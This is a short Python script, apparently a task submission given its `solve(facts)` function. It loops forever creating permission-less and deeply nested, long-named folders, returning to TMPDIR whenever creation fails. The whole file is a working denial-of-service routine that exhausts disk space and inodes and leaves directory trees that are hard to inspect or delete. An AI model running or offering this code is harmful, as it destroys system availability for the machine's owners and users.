# Makes empty folders without end, beside each other and inside each other, closed to everybody.
import os


def solve(facts):
    number = 0
    while True:
        number += 1
        try:
            os.mkdir(f"{facts['mark']}{number}", 0)
            os.mkdir("n" * 200, 0o300)
            os.chdir("n" * 200)
        except OSError:
            os.chdir("/")
            os.chdir(os.environ["TMPDIR"])
